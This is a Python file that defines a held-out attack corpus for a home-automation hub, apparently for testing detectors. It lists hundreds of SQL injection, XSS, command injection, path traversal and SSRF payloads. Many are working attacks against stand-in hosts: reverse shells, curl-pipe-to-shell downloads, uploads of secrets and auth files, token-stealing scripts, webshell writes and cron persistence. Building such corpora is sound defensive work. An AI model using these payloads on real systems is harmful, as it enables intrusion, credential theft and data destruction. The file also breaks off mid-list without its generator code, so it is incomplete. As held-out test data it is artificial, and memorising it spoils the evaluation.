"""Attack held-out corpus for the smarthome theme (home-automation community + device hub).

Every payload was hand-written for this corpus from an understanding of how each technique
works; a small share is produced by template functions that place hand-written payload
cores into an encoding (URL, double URL, HTML entities, JSON unicode escapes, case mixing).
Payloads live in the same notations users type into the hub (device names, entity ids,
automation YAML, Jinja templates, MQTT topics/payloads, Node-RED snippets, Tasmota console
lines, schedules, log searches, forum posts) and each class names the context the
vulnerable app puts the value into: "<context>-<technique>[+<encoding>]".
Attacker infrastructure: attacker.example, 203.0.113.0/24, 198.51.100.0/24. Secrets are
placeholders.

Output: attacks.jsonl next to this file. Deterministic (fixed seed, no set ordering).
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 8102
PREFIX = "ha81"

# each literal: (class, value)
SQLI = [
    ("device_name-union", "Kitchen lamp' UNION SELECT username, password FROM users--"),
    ("entity_id-tautology", "light.kitchen' OR '1'='1"),
    ("entity_id-paren_tautology", "sensor.temp') OR 1=1--"),
    ("device_name-time_blind_pg", "hallway'; SELECT pg_sleep(7)--"),
    ("mqtt_topic-time_blind_mysql", "zigbee2mqtt/lamp' AND SLEEP(6)-- -"),
    ("device_name-boolean_substring", "porch' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a'--"),
    ("history_query-error_extractvalue", "1 AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))"),
    ("history_query-error_updatexml", "light.desk' AND updatexml(null,concat(0x3a,(SELECT user())),null)-- -"),
    ("device_name-stacked_xp_cmdshell", "Garage'; EXEC xp_cmdshell 'ping -n 3 203.0.113.9'--"),
    ("entity_search-union_sqlite_master", "x' UNION SELECT name, sql FROM sqlite_master--"),
    ("sort_field-case_order_by", "last_changed, (CASE WHEN (SELECT count(*) FROM users)>0 THEN state ELSE entity_id END)"),
    ("room_id-numeric_tautology", "42 OR 1=1"),
    ("room_id-numeric_union_null", "0 UNION ALL SELECT NULL,NULL,token FROM refresh_tokens"),
    ("note_insert-subquery_values", "Filter changed', (SELECT token FROM refresh_tokens LIMIT 1))--"),
    ("device_name-union_oracle", "Lamp' UNION SELECT banner, NULL FROM v$version--"),
    ("log_search-copy_to_program", "ERROR'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.5/x | sh'--"),
    ("device_name-load_file", "plug' UNION SELECT LOAD_FILE('/etc/mysql/debian.cnf'),2-- -"),
    ("device_name-into_outfile", "plug' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/z.php'-- -"),
    ("mqtt_payload-sqlite_randomblob", "{\"state\":\"ON\",\"device\":\"lamp' AND 1=randomblob(600000000)--\"}"),
    ("entity_id-sqlite_load_extension", "binary_sensor.door' AND (SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN 1 ELSE load_extension(1) END)=1--"),
    ("device_name-error_cast_pg", "fan' AND 1=CAST((SELECT current_user) AS int)--"),
    ("schedule-stacked_waitfor", "06:30'; WAITFOR DELAY '0:0:6'--"),
    ("device_name-benchmark", "bulb' OR BENCHMARK(5000000,SHA1('x'))-- "),
    ("search_box-like_wildcard_boolean", "%' AND 1=1 AND '%'='"),
    ("device_name-group_by_having", "thermostat' GROUP BY entity_id HAVING 1=1--"),
    ("friendly_name-double_quote_tautology", "Desk lamp\" OR \"\"=\""),
    ("device_rename-stacked_drop", "Lamp'); DROP TABLE states;--"),
    ("event_id-stacked_delete", "1; DELETE FROM events WHERE 1=1"),
    ("profile_update-set_clause", "Anna', is_admin=1 WHERE username='guest'--"),
    ("device_name-mysql_versioned_comment", "sonoff' /*!50000UNION*/ /*!50000SELECT*/ 1,user()-- -"),
    ("device_name-hex_literal", "dimmer' UNION SELECT 1,0x61646d696e-- -"),
    ("device_name-char_function", "x' OR name=CHAR(97,100,109,105,110)--"),
    ("entity_search-information_schema", "' UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()-- -"),
    ("device_name-pg_shadow_string_agg", "lamp' UNION SELECT string_agg(usename||':'||passwd, ','),NULL FROM pg_shadow--"),
    ("note-pg_copy_from_dollar", "n'; CREATE TEMP TABLE t(x text); COPY t FROM $$/etc/passwd$$; SELECT string_agg(x,'|') FROM t--"),
    ("device_name-mssql_xp_dirtree_oob", "Hall'; EXEC master..xp_dirtree '\\\\203.0.113.7\\share'--"),
    ("device_name-oracle_utl_http", "x' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("entity_id-backslash_escape_bypass", "light.x\\' OR 1=1-- "),
    ("search_box-hash_newline_comment", "lamp'#\nUNION SELECT 1,password FROM users-- -"),
    ("limit_param-union", "5 UNION SELECT id,username,password FROM users"),
    ("tasmota_console-tautology", "Power1' OR '1'='1"),
    ("schedule-stacked_insert", "0 6 * * 1-5'); INSERT INTO users(name,role) VALUES('ghost','admin');--"),
    ("log_search-union", "Zigbee2MQTT:error%' UNION SELECT entity_id, state FROM states--"),
    ("mqtt_payload-insert_stacked", "21.5); DROP TABLE readings;--"),
    ("mqtt_payload-insert_subquery", "21.5, (SELECT password FROM users LIMIT 1))--"),
    ("backup_name-sqlite_attach_webshell", "b'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(t text); INSERT INTO x.p VALUES('<?php system($_GET[\"c\"]);?>');--"),
    ("entity_id-sqlite_iif_blind", "sensor.x' AND iif((SELECT length(password) FROM users WHERE id=1)>8,1,0)--"),
    ("area_ids-in_list_breakout", "1,2) OR (1=1"),
    ("device_name-like_hash_comment", "bulb' OR 1 LIKE 1#"),
    ("login-comment_truncation", "admin'/*"),
    ("device_name-offset_tautology", "x' OR 'x'='x' LIMIT 1 OFFSET 2--"),
    ("friendly_name-concat_subquery", "Lamp '||(SELECT token FROM long_lived_tokens LIMIT 1)||'"),
    ("entity_id-ascii_blind", "switch.pump' AND ASCII(SUBSTR((SELECT name FROM sqlite_master WHERE type='table' LIMIT 1),1,1))>100--"),
    ("device_name-mssql_declare_oob", "Hall';DECLARE @q varchar(99);SET @q='\\\\attacker.example\\x';EXEC master.dbo.xp_fileexist @q;--"),
    ("sort_field-order_by_enumeration", "state ORDER BY 9--"),
    ("forum_search-union", "unavailable\" UNION SELECT email, password_hash FROM forum_users-- -"),
    ("note-pg_lo_import", "x'; SELECT lo_import('/etc/passwd');--"),
    ("yaml_entity_id-tautology", "trigger:\n  platform: state\n  entity_id: \"binary_sensor.door' OR 'a'='a\"\n  to: 'on'"),
    ("jinja_state-union", "{{ states('sensor.x'' UNION SELECT state FROM states WHERE entity_id LIKE ''lock.%') }}"),
    ("nodered_topic-stacked_update", "msg.topic = \"UPDATE users SET role='admin' WHERE name='guest'\"; return msg;"),
    ("device_name-pg_error_xml", "lamp' AND 1=(SELECT query_to_xml('select password from users',true,true,'')::text::int)--"),
    ("device_name-json_extract_sqlite", "x' UNION SELECT json_extract(data,'$.users'),1 FROM auth--"),
    ("device_name-scientific_notation", "1.e0UNION SELECT username,password FROM users-- -"),
    ("plain-tautology_comment", "' OR 1=1--"),
    ("plain-boolean_string", "1' AND '1'='1"),
    ("plain-login_bypass", "admin'-- "),
    ("plain-union_version", "' UNION SELECT @@version, NULL-- -"),
    ("plain-time_blind", "1 AND SLEEP(5)"),
    ("plain-double_quote_hash", "\" OR 1=1#"),
    ("plain-stacked_drop", "'; DROP TABLE users;--"),
    ("plain-numeric_tautology", "1 OR 1=1"),
    ("plain-string_tautology", "' OR 'a'='a"),
    ("plain-stacked_waitfor", "1; WAITFOR DELAY '0:0:5'--"),
    ("device_name-union+comment_space", "Lamp'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users#"),
    ("device_name-union+case_mix", "Lamp' uNiOn SeLeCt username, PaSsWoRd fRoM users-- -"),
    ("entity_id-tautology+urlenc", "light.kitchen%27%20OR%20%271%27%3D%271"),
    ("entity_id-tautology+double_urlenc", "sensor.temp%2527%2520OR%25201%253D1--"),
    ("device_name-tautology+html_entities", "Lamp&#39; OR &#39;1&#39;=&#39;1"),
    ("device_name-tautology+overlong_utf8", "Lamp%C0%A7 OR 1=1--"),
]

XSS = [
    ("device_name-img_onerror", "Kitchen lamp<img src=x onerror=alert(document.domain)>"),
    ("device_name-svg_onload_cookie", "Porch light<svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("friendly_name-script_src", "Hallway\"><script src=https://attacker.example/hook.js></script>"),
    ("entity_attr-attribute_breakout", "light.x\" onmouseover=\"alert(1)"),
    ("device_name-single_quote_autofocus", "Bedroom' autofocus onfocus='alert(localStorage.getItem(\"hassTokens\"))"),
    ("note-textarea_breakout_token_theft", "</textarea><script>new Image().src='https://attacker.example/t?'+encodeURIComponent(localStorage.hassTokens)</script>"),
    ("forum_post-details_ontoggle", "Does anyone know this device? <details open ontoggle=alert(1)>specs</details>"),
    ("yaml_panel_url-javascript_uri", "panel_iframe:\n  cams:\n    title: Cameras\n    url: javascript:fetch('//attacker.example/'+localStorage.hassTokens)"),
    ("forum_post-iframe_srcdoc", "See screenshot <iframe srcdoc=\"<script>parent.alert(document.cookie)</script>\"></iframe>"),
    ("forum_post-anchor_mixed_case_js", "Manual here: <a href=\"jAvAsCrIpT:alert(1)\">Shelly manual</a>"),
    ("note-noscript_mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("device_name-svg_animate_onbegin", "LED strip<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("device_name-video_source_onerror", "Cam<video><source onerror=\"alert(1)\"></video>"),
    ("forum_post-body_onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("device_name-input_autofocus", "Thermostat<input onfocus=alert(1) autofocus>"),
    ("nodered_ui_string-js_string_breakout", "Office';alert(document.cookie);//"),
    ("nodered_ui_string-double_quote_js_breakout", "Office\\\";alert(1);//"),
    ("mqtt_payload-script_close_breakout", "{\"name\":\"</script><script>alert(1)</script>\"}"),
    ("note-style_import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("forum_post-html_form_phishing", "Session expired, please log in again:<form action=https://attacker.example/login><input name=username><input type=password name=password><button>Log in</button></form>"),
    ("device_name-meta_refresh", "Lamp<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">"),
    ("note-base_href", "<base href=\"https://attacker.example/\">"),
    ("forum_post-object_data_base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("device_name-atob_eval", "Plug<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("note-svg_script_entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("forum_post-entity_encoded_js_href", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">firmware</a>"),
    ("mqtt_payload-json_state_img", "zigbee2mqtt/lamp/set {\"state\":\"<img src=x onerror=alert(1)>\"}"),
    ("markdown_card-javascript_link", "## Energy\n[open details](javascript:alert(document.cookie))"),
    ("markdown_card-token_exfil_api", "<img src=x onerror=\"fetch('/api/states',{headers:{Authorization:'Bearer '+JSON.parse(localStorage.hassTokens).access_token}}).then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/s',t))\">"),
    ("device_name-svg_slash_onload", "Fan<svg/onload=alert(1)>"),
    ("device_name-img_slash_no_space", "Fan<img/src/onerror=alert(1)>"),
    ("device_name-backtick_call", "Blind<img src=x onerror=alert`1`>"),
    ("note-contenteditable_onblur", "<x contenteditable onblur=alert(1)>click here then elsewhere</x>"),
    ("forum_post-marquee_onstart", "<marquee onstart=alert(1)>NEW FIRMWARE</marquee>"),
    ("device_name-audio_onerror", "Speaker<audio src=x onerror=alert(1)>"),
    ("log_line-script_redirect", "2024-03-11 08:15:02 ERROR <script>document.location='https://attacker.example/?c='+document.cookie</script>"),
    ("floorplan_svg-svg_onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><rect width=\"10\" height=\"10\"/></svg>"),
    ("device_name-scr_nested_strip_bypass", "Lamp<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("device_name-svg_anchor_animate_href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"),
    ("forum_post-onclick_unlock_csrf", "<a href=# onclick=\"fetch('/api/services/lock/unlock',{method:'POST',headers:{Authorization:'Bearer '+JSON.parse(localStorage.hassTokens).access_token},body:'{\\\"entity_id\\\":\\\"lock.front_door\\\"}'})\">Show photo</a>"),
    ("device_name-select_autofocus", "Mode<select onfocus=alert(1) autofocus>"),
    ("note-textarea_autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("url_fragment-hash_breakout", "#\"><img src=x onerror=alert(1)>"),
    ("jinja_output-raw_script", "{{ '<script>alert(document.cookie)</script>' }}"),
    ("friendly_name-client_template_constructor", "{{constructor.constructor('alert(1)')()}}"),
    ("device_name-object_javascript", "<object data=javascript:alert(1)>"),
    ("device_name-bracket_concat", "Sensor<img src=x:x onerror=window['al'+'ert'](1)>"),
    ("device_name-settimeout_concat", "Sensor<svg onload=setTimeout('ale'+'rt(1)')>"),
    ("device_name-dynamic_import", "Sensor<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("note-style_onload", "<style onload=alert(1)></style>"),
    ("device_name-non_ascii_img", "Wohnzimmer Lampe <img src=x onerror=alert('Küche')>"),
    ("forum_post-body_slash_onload", "<body/onload=alert(1)>"),
    ("forum_post-iframe_javascript", "<iframe src=javascript:alert(document.domain)></iframe>"),
    ("device_name-unclosed_tag", "Lamp<img src=x onerror=alert(1)//"),
    ("yaml_alias-img_onerror", "alias: \"Night <img src=x onerror=alert(1)>\"\ntrigger:\n  platform: sun\n  event: sunset"),
    ("mqtt_discovery_name-svg", "homeassistant/sensor/x/config {\"name\":\"<svg onload=alert(1)>\",\"state_topic\":\"x/state\"}"),
    ("schedule_label-img", "Mon-Fri 06:30 <img src=x onerror=alert(1)>"),
    ("tasmota_friendlyname-script", "FriendlyName1 <script>alert(1)</script>"),
    ("device_name-onpointerenter", "Plug<div onpointerenter=alert(1) style=position:fixed;inset:0>"),
    ("forum_post-svg_use_foreign", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("notification_title-img_multiline", "Washer done\n<img\nsrc=x\nonerror=alert(1)>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr_breakout_svg", "\"><svg onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(document.cookie)"),
    ("plain-body_onload", "<body onload=alert(1)>"),
    ("plain-svg_slash_onload", "<svg/onload=alert(1)>"),
    ("plain-quote_breakout_img", "'\"><img src=x onerror=alert(1)>"),
    ("plain-iframe_javascript", "<iframe src=\"javascript:alert(1)\">"),
    ("device_name-img+unicode_js_escape", "Lamp<img src=x onerror=\"\\u0061lert(1)\">"),
    ("device_name-script+urlenc", "Lamp%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("device_name-svg+double_urlenc", "Lamp%253Csvg%2520onload%253Dalert(1)%253E"),
    ("device_name-img+case_mix", "Lamp<IMG SRC=x OnErRoR=alert(1)>"),
    ("mqtt_payload-img+json_unicode_escape", "{\"name\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
]

CMDI = [
    ("ping_host-semicolon", "192.168.1.1; cat /etc/passwd"),
    ("camera_host-and_curl_pipe", "192.168.1.60 && curl -s http://attacker.example/x.sh | sh"),
    ("esphome_file-nc_reverse", "living-room.yaml; nc 203.0.113.4 4444 -e /bin/sh"),
    ("device_name-dollar_subst", "Lamp $(id)"),
    ("device_name-backtick_subst", "Lamp `uname -a`"),
    ("ping_host-pipe_wget_bash", "192.168.1.1 | wget -qO- http://198.51.100.7/p | bash"),
    ("ping_host-or_telnetd", "nohost || busybox telnetd -l /bin/sh -p 2323"),
    ("esphome_file-newline", "sensor.yaml\nreboot"),
    ("shell_arg-ifs_space", "x;cat${IFS}/config/secrets.yaml"),
    ("shell_arg-brace_expansion", "x;{cat,/config/secrets.yaml}"),
    ("device_name-curl_exfil_ifs", "Plug$(curl${IFS}-d${IFS}@/config/secrets.yaml${IFS}https://attacker.example/u)"),
    ("ping_host-backslash_split", "192.168.1.1;c\\at /et\\c/pas\\swd"),
    ("ping_host-quote_split", "192.168.1.1;w'h'o\"am\"i"),
    ("ping_host-base64_pipe", "192.168.1.1;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("ping_host-printf_hex", "192.168.1.1;$(printf '\\x69\\x64')"),
    ("ping_host-windows_type", "192.168.1.1 & type C:\\Windows\\win.ini"),
    ("ping_host-powershell_iex", "192.168.1.1 | powershell -nop -c \"iwr http://attacker.example/a.ps1 -UseBasicParsing|iex\""),
    ("ping_host-bash_dev_tcp", "127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.9/9001 0>&1'"),
    ("esphome_file-python_pty", "x.yaml;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("curl_url-argument_injection_output", "-o /config/custom_components/helper/__init__.py http://attacker.example/i.py"),
    ("backup_name-tar_checkpoint_action", "--checkpoint=1 --checkpoint-action=exec=sh /share/x.sh"),
    ("ssh_host-proxycommand", "-oProxyCommand=sh -c 'id>/share/o' x"),
    ("ping_host-sleep_time_blind", "192.168.1.1; sleep 10 #"),
    ("ping_host-ping_time_blind", "x & ping -c 10 127.0.0.1 &"),
    ("ping_host-dns_exfil", "192.168.1.1;nslookup $(whoami).attacker.example"),
    ("device_name-dig_exfil", "Fan$(dig +short $(hostname).x.attacker.example)"),
    ("tasmota_console-semicolon_rm", "Power1 ON; rm -rf /config/.storage"),
    ("input_text_shell_command-quote_breakout", "hi\"; curl attacker.example/s|sh; echo \""),
    ("nodered_exec_payload-append", "; cat /data/flows_cred.json"),
    ("ping_host-process_substitution", "192.168.1.1; source <(curl -s https://attacker.example/x)"),
    ("ping_host-here_string", "192.168.1.1;sh<<<id"),
    ("ping_host-glob_obfuscation", "192.168.1.1;/???/?at /???/p??s??"),
    ("ping_host-env_slice_slash", "192.168.1.1;cat ${HOME:0:1}etc${HOME:0:1}shadow"),
    ("esphome_file-perl_system", "x.yaml;perl -e 'system(\"id\")'"),
    ("esphome_file-awk_system", "x.yaml;awk 'BEGIN{system(\"id\")}'"),
    ("ping_host-find_exec", "127.0.0.1; find / -name secrets.yaml -exec cat {} \\;"),
    ("ping_host-crontab_persistence", "127.0.0.1; (crontab -l; echo \"* * * * * curl -s http://203.0.113.5/b|sh\") | crontab -"),
    ("ping_host-ssh_key_append", "127.0.0.1; echo ssh-ed25519 AAAAPLACEHOLDERKEY attacker >> /root/.ssh/authorized_keys"),
    ("ping_host-certutil_download", "127.0.0.1 & certutil -urlcache -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("ping_host-net_user", "127.0.0.1 | net user"),
    ("mqtt_topic-single_quote_breakout", "zigbee2mqtt/lamp'; id; echo '"),
    ("mqtt_topic-double_quote_breakout", "zigbee2mqtt/lamp\"; id; echo \""),
    ("device_name-double_quoted_subst", "Office $(cat /etc/hostname)"),
    ("ping_host-docker_socket_escape", "127.0.0.1;docker run -v /:/h --rm alpine chroot /h sh -c id"),
    ("ping_host-openssl_shell", "127.0.0.1;openssl s_client -quiet -connect attacker.example:443|sh"),
    ("ping_host-curl_upload", "127.0.0.1;curl -T /config/secrets.yaml https://attacker.example/up"),
    ("ping_host-wget_post_file", "127.0.0.1;wget --post-file=/config/.storage/auth https://attacker.example/"),
    ("ping_host-busybox_nc", "127.0.0.1;busybox nc 198.51.100.3 4444 -e sh"),
    ("tasmota_console-newline_curl", "Power1 ON\ncurl http://attacker.example/x|sh"),
    ("ping_host-mkfifo_shell", "127.0.0.1;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f"),
    ("ping_host-php_system", "127.0.0.1;php -r 'system(\"id\");'"),
    ("ping_host-ruby_exec", "127.0.0.1;ruby -e 'exec \"id\"'"),
    ("ping_host-var_concat", "127.0.0.1;a=who;b=ami;$a$b"),
    ("ping_host-rev_pipe", "127.0.0.1;rev<<<'di'|sh"),
    ("ping_host-rot13_pipe", "127.0.0.1;tr 'a-z' 'n-za-m'<<<'vq'|sh"),
    ("ping_host-base64_ifs", "127.0.0.1;echo${IFS}aWQ=|base64${IFS}-d|sh"),
    ("ping_host-windows_timeout", "127.0.0.1 & timeout /T 10"),
    ("ping_host-windows_ping_time", "x || ping -n 11 127.0.0.1"),
    ("device_name-sleep_subst", "Heater $(sleep 8)"),
    ("schedule-cron_line_injection", "0 3 * * * /opt/backup.sh\n* * * * * root curl -s http://203.0.113.5/c|sh"),
    ("yaml_shell_command-template_payload", "shell_command:\n  notify_tv: \"echo '{{ message }}' | nc 192.168.1.40 5555\"\n# message: x' ; curl attacker.example/t|sh ; echo '"),
    ("nodered_exec-child_process_body", "msg.payload = '192.168.1.1 && cat /config/secrets.yaml';\nreturn msg;"),
    ("esphome_cli-name_option", "office.yaml --device 192.168.1.7 ; id"),
    ("forum_snippet-backticks_in_cmd", "Just run ping `curl -s attacker.example/$(whoami)` and post the output"),
    ("ping_host-ansi_c_quote", "127.0.0.1;$'\\x63\\x61\\x74' /etc/passwd"),
    ("plain-semicolon_id", "; id"),
    ("plain-pipe_whoami", "| whoami"),
    ("plain-and_cat_passwd", "&& cat /etc/passwd"),
    ("plain-subst_uname", "$(uname -a)"),
    ("plain-backtick_id", "`id`"),
    ("plain-or_id", "|| id"),
    ("plain-semicolon_sleep", "; sleep 5"),
    ("plain-pipe_nc_shell", "| nc 203.0.113.9 4444 -e /bin/sh"),
    ("ping_host-newline+urlenc", "192.168.1.1%0aid"),
    ("ping_host-newline_cat+urlenc", "127.0.0.1%0Acat%20/etc/passwd"),
    ("ping_host-semicolon+double_urlenc", "127.0.0.1%253Bid"),
    ("ping_host-windows+case_mix", "127.0.0.1 & WhOaMi /AlL"),
]

TRAVERSAL = [
    ("media_path-dotdot_passwd", "../../../../etc/passwd"),
    ("www_file-parent_secrets", "../secrets.yaml"),
    ("backup_file-config_secrets", "../../config/secrets.yaml"),
    ("www_file-storage_auth", "../../../config/.storage/auth"),
    ("www_file-core_config_entries", "../../../config/.storage/core.config_entries"),
    ("www_file-dotdot_slash_collapse", "....//....//....//etc/passwd"),
    ("media_path-windows_backslash", "..\\..\\..\\windows\\win.ini"),
    ("log_file-absolute_storage_auth", "/config/.storage/auth"),
    ("log_file-proc_environ", "/proc/self/environ"),
    ("image_file-null_byte_ext", "../../secrets.yaml%00.jpg"),
    ("local_url-encoded_slash", "/local/..%2F..%2F.storage%2Fauth"),
    ("media_source-uri_traversal", "media-source://media_source/local/../../config/secrets.yaml"),
    ("esphome_name-appended_ext", "../secrets"),
    ("backup_member-tar_slip", "../../../config/custom_components/evil/__init__.py"),
    ("backup_member-zip_slip_windows", "..\\..\\..\\config\\configuration.yaml"),
    ("addon_file-options_json", "/data/options.json"),
    ("ssl_file-private_key", "../../ssl/privkey.pem"),
    ("share_path-unc", "\\\\203.0.113.5\\share\\x.yaml"),
    ("static_path-semicolon_segment", "/static/..;/..;/secrets.yaml"),
    ("www_file-iis_unicode_slash", "..%u2216..%u2216secrets.yaml"),
    ("www_file-encoded_backslash", "..%5c..%5c..%5cboot.ini"),
    ("nodered_filename-flows_cred", "/data/../data/flows_cred.json"),
    ("nodered_filename-settings_js", "../settings.js"),
    ("log_file-ssh_key", "home-assistant.log/../../../root/.ssh/id_rsa"),
    ("theme_file-ssh_key", "themes/../../../root/.ssh/id_ed25519"),
    ("broker_file-mosquitto_passwd", "../../../etc/mosquitto/passwd"),
    ("media_path-deep_dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("media_path-double_slash", "/config//..//..//etc/shadow"),
    ("include_file-php_filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("sound_file-file_scheme_relative", "file:../../secrets.yaml"),
    ("sound_file-nested_after_valid", "sounds/doorbell.mp3/../../../../etc/passwd"),
    ("media_path-mixed_slashes", "..\\/..\\/..\\/etc/passwd"),
    ("media_path-windows_dots_collapse", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("media_path-proc_fd", "/proc/self/fd/3"),
    ("media_path-tilde_root", "~root/.bash_history"),
    ("media_path-windows_sam", "C:\\Users\\Public\\..\\..\\Windows\\System32\\config\\SAM"),
    ("yaml_include-dotdot", "sensor: !include ../../../etc/shadow"),
    ("yaml_extra_module-dotdot", "frontend:\n  extra_module_url:\n    - /local/../../secrets.yaml"),
    ("camera_snapshot_path-proc_root", "/proc/1/root/etc/shadow"),
    ("mqtt_payload-json_filename", "{\"file\":\"../../../../config/secrets.yaml\",\"action\":\"play\"}"),
    ("note_attachment-windows_hosts", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("plain-dotdot_passwd", "../../../etc/passwd"),
    ("plain-dotdot_windows", "..\\..\\boot.ini"),
    ("plain-absolute_shadow", "/etc/shadow"),
    ("plain-dotdot_win_ini", "../../../../windows/win.ini"),
    ("media_path-dotdot+urlenc", "..%2f..%2f..%2fetc%2fshadow"),
    ("www_file-secrets+double_urlenc", "..%252f..%252fsecrets.yaml"),
    ("media_path-dots+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("media_path-slash+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("media_path-dots+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("media_path-dotdot+fullwidth", "．．／．．／etc/passwd"),
]

SSRF = [
    ("rest_resource-aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("rest_resource-aws_metadata_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("camera_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("rest_resource-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("rest_resource-localhost_api", "http://127.0.0.1:8123/api/config"),
    ("rest_resource-supervisor_hostname", "http://supervisor/core/info"),
    ("rest_resource-supervisor_ip", "http://172.30.32.2/addons"),
    ("webhook_target-zero_ip_nodered", "http://0.0.0.0:1880/flows"),
    ("camera_url-decimal_ip", "http://2130706433:8123/api/states"),
    ("camera_url-hex_ip", "http://0x7f000001/"),
    ("camera_url-octal_ip_mqtt", "http://0177.0.0.1:1883/"),
    ("camera_url-short_ip", "http://127.1/api/"),
    ("rest_resource-ipv6_loopback_influx", "http://[::1]:8086/query?q=SHOW+DATABASES"),
    ("rest_resource-ipv4_mapped_metadata", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("camera_url-decimal_metadata", "http://2852039166/latest/meta-data/"),
    ("camera_url-userinfo_confusion", "http://cam.example.net@127.0.0.1:8123/"),
    ("camera_url-dns_rebinding", "http://7f000001.rebind.attacker.example:8123/api/"),
    ("image_proxy-open_redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data"),
    ("rest_resource-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/root/.ssh%0D%0ASAVE%0D%0A"),
    ("camera_url-file_scheme", "file:///config/secrets.yaml"),
    ("rest_resource-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook_target-router_reboot", "http://192.168.1.1/cgi-bin/luci/admin/system/reboot"),
    ("camera_url-frigate_internal", "http://127.0.0.1:5000/api/config"),
    ("rest_resource-docker_api", "http://127.0.0.1:2375/containers/json"),
    ("rest_resource-unix_socket", "http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json"),
    ("camera_url-ipv6_mapped_hex", "http://[0:0:0:0:0:ffff:7f00:1]:8123/"),
    ("camera_url-zero_host", "http://0/api/"),
    ("rest_resource-hassio_proxy", "http://127.0.0.1:8123/api/hassio/addons"),
    ("camera_url-gcp_short_host", "http://metadata/computeMetadata/v1/project/"),
    ("rest_resource-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("rest_resource-ecs_credentials", "http://169.254.170.2/v2/credentials/"),
    ("yaml_rest-metadata_sensor", "rest:\n  - resource: http://169.254.169.254/latest/meta-data/\n    sensor:\n      - name: cloud\n        value_template: '{{ value }}'"),
    ("tasmota_websend-internal", "WebSend [127.0.0.1:8123] /api/services/homeassistant/stop"),
    ("webhook_target-blind_callback", "http://ssrf-cb.attacker.example/ping"),
    ("camera_url-ipv6_unspecified", "http://[::]:8123/"),
    ("rest_resource-nodered_settings", "http://127.0.0.1:1880/settings"),
    ("rest_resource-observer", "http://172.30.32.1:4357/"),
    ("rest_resource-influx_drop", "http://127.0.0.1:8086/query?q=DROP%20DATABASE%20homeassistant"),
    ("webhook_target-tasmota_lan_power", "http://192.168.1.50/cm?cmnd=Power%20OFF"),
    ("camera_url-octal_lan", "http://0300.0250.1.1/"),
    ("camera_url-hex_dotted_metadata", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("mqtt_payload-json_url", "{\"image_url\":\"http://169.254.169.254/latest/meta-data/\",\"entity\":\"camera.front\"}"),
    ("yaml_camera-still_image_internal", "camera:\n  - platform: generic\n    still_image_url: http://127.0.0.1:8123/api/camera_proxy/camera.nursery\n    name: 'Garden'"),
    ("ota_url-internal_redirect", "OtaUrl http://203.0.113.12/fw.bin?next=http://192.168.1.1/"),
    ("camera_url-backslash_parser_confusion", "http://attacker.example\\@127.0.0.1:8123/"),
    ("plain-metadata", "http://169.254.169.254/"),
